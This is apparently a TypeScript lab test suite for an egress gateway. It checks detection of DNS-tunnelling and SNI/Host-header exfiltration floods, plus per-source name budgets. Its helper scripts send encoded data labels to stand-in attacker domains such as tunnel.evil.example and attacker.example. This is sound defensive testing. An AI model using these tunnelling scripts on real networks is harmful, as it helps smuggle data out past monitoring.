/**
 * Promises of detections, in a lab (threats N3, D1, D2): floods of names that carry data are told, whether they are asked
 * of DNS or shown to an allowed address, in enforce and in monitor mode, and honest names are not. And that the budget of
 * names holds however many addresses a job takes, scored by the names that the upstream was asked for.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, describe, test } from "node:test";
import type { Event } from "../../src/audit/event.ts";
import { Lab } from "../lab/lab.ts";
import { requireTools } from "../lab/tools.ts";
import { until } from "../support/until.ts";
import { RunningGateway } from "./start.ts";

requireTools(["ip", "dig", "openssl", "curl"]);
const lab = await Lab.create({ runners: 2 });
after(() => lab.close());

const policy = (mode: "enforce" | "monitor") => `version: 1
rules:
  - { name: web, to: [allowed.example, "allowed.example:80", "*.wild.example"] }
default: { mode: ${mode} }
`;

const hex = (i: number, size: number) => createHash("sha512").update(String(i)).digest("hex").slice(0, size);
const times = (count: number, make: (i: number) => string): string[] =>
  Array.from({ length: count }, (_, i) => make(i));

/** Runs a script of Node on a runner with `names` as JSON in its standard input. */
async function script(runner: number, text: string, names: readonly string[]): Promise<string> {
  const { code, stdout, stderr } = await lab
    .runner(runner)
    .exec(process.execPath, ["-e", text], { input: JSON.stringify(names), timeoutMs: 60_000 });
  assert.equal(code, 0, stderr);
  return stdout;
}

/** Asks for each name (type A, 16 at once, from an address of its own where a list of them is given) and waits for each. */
const asking = String.raw`
  const names = JSON.parse(require("fs").readFileSync(0, "utf8"));
  const query = (name) => Buffer.concat([Buffer.of(1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0),
    ...name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)])), Buffer.of(0, 0, 1, 0, 1)]);
  const one = (each) => new Promise((resolve) => { const [name, from] = each.split("@");
    const six = from !== undefined && from.includes(":");
    const socket = require("dgram").createSocket(six ? "udp6" : "udp4"); let tries = 0;
    const send = () => { if (tries++ === 5) { socket.close(); resolve(); } else socket.send(query(name), 53, six ? "2001:db8:200::53" : "203.0.113.53"); };
    const timer = setInterval(send, 1000);
    socket.on("message", () => { clearInterval(timer); socket.close(); resolve(); }); socket.on("close", () => clearInterval(timer));
    socket.bind({ address: from, port: 0 }, send); });
  (async () => { const next = async () => { while (names.length > 0) await one(names.shift()); };
    await Promise.all(Array.from({ length: 16 }, next)); })();`;

/** Shows each name as SNI to an allowed address. */
const showing = String.raw`
  const names = JSON.parse(require("fs").readFileSync(0, "utf8"));
  const one = (name) => new Promise((resolve) => {
    const socket = require("tls").connect({ host: "203.0.113.10", port: 443, servername: name, rejectUnauthorized: false },
      () => { console.log("connected"); socket.destroy(); });
    socket.on("error", () => {}); socket.on("close", resolve); });
  (async () => { const next = async () => { while (names.length > 0) await one(names.shift()); };
    await Promise.all(Array.from({ length: 8 }, next)); })();`;

/** Shows each name as Host to an allowed address. */
const hosting = String.raw`
  const names = JSON.parse(require("fs").readFileSync(0, "utf8"));
  const one = (name) => new Promise((resolve) => { const socket = require("net").connect(80, "203.0.113.10");
    socket.write("GET / HTTP/1.1\r\nHost: " + name + "\r\nConnection: close\r\n\r\n"); socket.resume();
    socket.on("error", () => {}); socket.on("close", resolve); });
  (async () => { const next = async () => { while (names.length > 0) await one(names.shift()); };
    await Promise.all(Array.from({ length: 8 }, next)); })();`;

const resolveAllowed = (runner: number) => lab.runner(runner).exec("dig", ["+short", "allowed.example"]);
const detections = (gateway: RunningGateway, since: string): Event[] => gateway.recorded({ kind: "detection" }, since);
const distinct = async (under: string): Promise<number> =>
  new Set(
    (await lab.internet.dns.queries()).map(({ name }) => name.toLowerCase()).filter((name) => name.endsWith(under)),
  ).size;

describe("in enforce mode", async () => {
  const gateway = await RunningGateway.start(lab, { policy: policy("enforce") });
  await gateway.expect({ kind: "lifecycle", message: "started" }, "", 60_000);
  after(() => gateway.stop());

  test("D1: questions that carry data in the labels of a denied zone", async () => {
    const since = gateway.mark;
    await lab.sink.clear();
    await script(
      1,
      asking,
      times(150, (i) => `${hex(i, 60)}.${hex(i + 500, 60)}.tunnel.evil.example`),
    );
    const denied = await gateway.expect({ kind: "detection", detection: { type: "denied_names" } }, since);
    assert.equal(denied.destination?.name, "evil.example");
    assert.equal(denied.source?.ip, "10.20.1.2");
    assert.deepEqual(denied.detection?.channels, ["dns"]);
    assert.equal(denied.detection?.denied, 100);
    assert.ok(Array.isArray(denied.detection?.examples) && denied.detection.examples.length === 5);
    const encoded = await gateway.expect({ kind: "detection", detection: { type: "name_entropy" } }, since);
    assert.ok((encoded.detection?.bytes as number) >= 1024);
    assert.equal(await distinct("evil.example"), 0, "nothing went upstream");
    assert.equal(detections(gateway, since).length, 2, "each is told once");
  });

  test("N3: SNI of denied names shown to an allowed address; the hellos stay here", async () => {
    const since = gateway.mark;
    await resolveAllowed(2);
    const marker = lab.marker();
    assert.equal(
      await script(
        2,
        showing,
        times(120, (i) => `${marker}-${i}.sni.evil.example`),
      ),
      "",
    );
    const { source, destination, detection } = await gateway.expect(
      { kind: "detection", detection: { type: "denied_names" } },
      since,
    );
    assert.deepEqual([source?.ip, destination?.name, destination?.name_from], ["10.20.2.2", "evil.example", "sni"]);
    assert.deepEqual(detection?.channels, ["sni"]);
    assert.deepEqual(await lab.sink.find(marker), []);
  });

  test("N4: Host of denied names shown to an allowed address", async () => {
    const since = gateway.mark;
    await resolveAllowed(2);
    await script(
      2,
      hosting,
      times(120, (i) => `h${i}.host.attacker.example`),
    );
    const { destination } = await gateway.expect({ kind: "detection", detection: { type: "denied_names" } }, since);
    assert.deepEqual([destination?.name, destination?.name_from], ["attacker.example", "host"]);
  });

  test("D2: data under an allowed wildcard", async () => {
    const since = gateway.mark;
    await script(
      1,
      asking,
      times(60, (i) => `${hex(i, 48)}.wild.example`),
    );
    const { destination, detection } = await gateway.expect(
      { kind: "detection", detection: { type: "name_entropy" } },
      since,
    );
    assert.equal(destination?.name, "wild.example");
    assert.equal(detection?.denied, 0);
    assert.ok((detection?.names as number) < 60);
  });

  test("honest names, a hash among them, are no detection", async () => {
    const since = gateway.mark;
    const names = ["www", "cdn-1", "files", "d3a4b5c6e7f8", hex(7, 32), "eu-west-1"].map(
      (name) => `${name}.wild.example`,
    );
    await script(2, asking, [...names, "allowed.example", ...times(40, (i) => `app${i}.denied.example`)]);
    const { code } = await lab.runner(2).exec("curl", ["-sS", "-o", "/dev/null", "https://allowed.example/"]);
    assert.equal(code, 0);
    await gateway.expect({ kind: "dns", destination: { name: "app39.denied.example" } }, since);
    assert.deepEqual(detections(gateway, since), []);
  });

  /** Gives a runner addresses. The gateway has a route to them, or each would take a place in its neighbour table. */
  async function give(runner: number, addresses: readonly string[], prefix: string, route: string): Promise<void> {
    const inside = lab.inside(runner);
    const via = prefix.includes(":") ? inside.runner.v6 : inside.runner.v4;
    const { stdout } = await lab.runner(runner).exec("ip", ["-o", "address", "show", "to", prefix]);
    const device = /^\d+: (\S+)/m.exec(stdout)![1]!;
    const input = addresses.map((address) => `address add ${address} dev ${device} nodad\n`).join("");
    const added = await lab.runner(runner).exec("ip", ["-batch", "-"], { input });
    assert.equal(added.code, 0, added.stderr);
    const routed = await lab.gateway.exec("ip", ["route", "add", route, "via", via]);
    assert.equal(routed.code, 0, routed.stderr);
  }

  test("D2: a machine that takes 2000 addresses of its /64 has one budget of names, and it is told that it is spent", async () => {
    const since = gateway.mark;
    const addresses = times(2000, (i) => `fd20:2::1:${(i + 1).toString(16)}`);
    await give(2, addresses, "fd20:2::/64", "fd20:2::1:0/112");
    await lab.sink.clear();
    await script(
      2,
      asking,
      addresses.map((address, i) => `${hex(i, 20)}.wild.example@${address}`),
    );
    const told = await gateway.expect({ kind: "detection", detection: { type: "name_budget" } }, since);
    assert.equal(told.detection?.sender, "fd20:2::/64");
    const reached = await distinct(".wild.example");
    assert.ok(reached >= 400 && reached <= 500, `${reached} names reached the upstream`);
    const refused = () =>
      new Set(gateway.recorded({ reason: "query_budget" }, since).map(({ destination }) => destination?.name)).size;
    // Refusals are told when their second is over.
    await until(() => refused() >= 2000 - reached, 10_000);
    assert.equal(refused(), 2000 - reached);
    const other = await lab.runner(1).exec("dig", ["+short", "other.wild.example"]);
    assert.equal(other.stdout.trim(), "203.0.113.60", "another source is not harmed");
  });

  test("D2: nor do 120 addresses of IPv4 get more than their interface's budget", async () => {
    const since = gateway.mark;
    const addresses = times(120, (i) => `10.20.1.${i + 129}`);
    await give(1, addresses, "10.20.1.0/24", "10.20.1.128/25");
    await lab.sink.clear();
    await script(
      1,
      asking,
      times(2600, (i) => `v4-${hex(i, 20)}.wild.example@${addresses[i % 120]}`),
    );
    await gateway.expect({ reason: "query_budget" }, since);
    const reached = await distinct(".wild.example");
    assert.ok(reached > 1000 && reached <= 2000, `${reached} names reached the upstream`);
  });

  test("detections are in the chain", async () => {
    const { code, stdout } = await gateway.ask("logs verify");
    assert.equal(code, 0);
    assert.match(stdout, /The chain holds/);
  });
});

describe("in monitor mode", () => {
  test("the same floods pass, and are told", async () => {
    const gateway = await RunningGateway.start(lab, { policy: policy("monitor") });
    await gateway.expect({ kind: "lifecycle", message: "started" }, "", 60_000);
    await lab.sink.clear();
    await script(
      1,
      asking,
      times(120, (i) => `${hex(i, 60)}.evil.example`),
    );
    await resolveAllowed(1);
    await script(
      1,
      showing,
      times(120, (i) => `m${i}.other-evil.example`),
    );
    for (const [name, type] of [
      ["evil.example", "denied_names"],
      ["evil.example", "name_entropy"],
      ["other-evil.example", "denied_names"],
    ] as const) {
      await gateway.expect({ kind: "detection", destination: { name }, detection: { type } });
    }
    assert.ok((await distinct("evil.example")) >= 120);
    await gateway.stop();
  });
});
